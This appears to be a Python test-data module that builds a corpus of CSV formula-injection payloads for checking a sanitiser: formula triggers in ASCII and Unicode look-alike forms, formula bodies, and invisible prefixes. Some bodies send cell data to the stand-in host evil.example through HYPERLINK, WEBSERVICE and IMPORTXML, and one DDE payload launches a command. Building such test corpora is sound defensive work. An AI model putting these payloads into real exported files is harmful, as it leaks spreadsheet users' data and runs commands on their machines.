"""Cells that try to become formulas when a CSV file is opened in a spreadsheet:
every trigger, in every form, behind every invisible prefix (issue 8, defect 1)."""

# The characters that start a formula, as typed and as they look in other forms:
# full-width, small, superscript and subscript (NFKC folds each to ASCII), and
# the minus signs of mathematics.
TRIGGERS = [
    "=", "+", "-", "@", "|", "%",
    "\uff1d", "\uff0b", "\uff0d", "\uff20", "\uff5c", "\uff05",  # full-width
    "\ufe66", "\ufe62", "\ufe63", "\ufe6b", "\ufe6a",             # small forms
    "\u207c", "\u207a", "\u207b", "\u208c", "\u208a", "\u208b",  # super/subscript
    "\u2212", "\u2796", "\u2795",                                # minus, heavy -/+
]
BODIES = [
    "1+1",
    "2+3",
    "SUM(1;2)",
    "SUM(1,2)",
    'HYPERLINK("https://evil.example/?leak="&A1;"Click for help")',
    'HYPERLINK("https://evil.example","x")',
    "cmd|' /C calc'!A0",
    "2+3+cmd|' /C calc'!A0",
    'WEBSERVICE("https://evil.example/"&A2)',
    'IMPORTXML("https://evil.example";"//a")',
    "NOW()",
    "1*1",
    "A1",
    "-1+1",
]
PREFIXES = [
    "", "\x00", "\x01", "\x08", "\x1b", "\x7f", " ", "   ", "\t", "\r", "\n", "\r\n",
    "\x0b", "\x0c", "\x85", "\u00a0", "\u00ad", "\u034f", "\u061c", "\u115f", "\u1680",
    "\u180e", "\u2000", "\u2007", "\u200a", "\u200b", "\u200c", "\u200d", "\u200e",
    "\u200f", "\u2028", "\u2029", "\u202a", "\u202e", "\u202f", "\u205f", "\u2060",
    "\u2063", "\u2066", "\u2069", "\u2800", "\u3000", "\u3164", "\ufe0f", "\ufeff",
    "\uffa0", "\U000e0001", "\U000e0020",
    "\x00\u200b ", "\ufeff\ufeff", " \u00a0\u3000", "\u202e\u2066\u200b", "\t\x00",
]


def payloads():
    return [trigger + body for trigger in TRIGGERS for body in BODIES]


def corpus():
    """Every payload behind every prefix."""
    return [prefix + payload for prefix in PREFIXES for payload in payloads()]
